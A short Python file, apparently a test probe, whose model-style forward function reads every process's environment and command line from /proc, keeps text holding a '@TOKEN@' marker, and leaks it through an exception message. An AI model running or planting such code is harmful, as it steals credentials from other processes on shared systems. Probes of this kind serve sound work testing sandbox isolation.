"""Reads the environments and command lines of all processes."""

import glob


def forward(params, x, state):
    texts = []
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                texts.append(file.read().decode(errors="replace"))
        except OSError:
            continue
    raise RuntimeError("".join(text for text in texts if "@TOKEN@" in text) or "nothing")
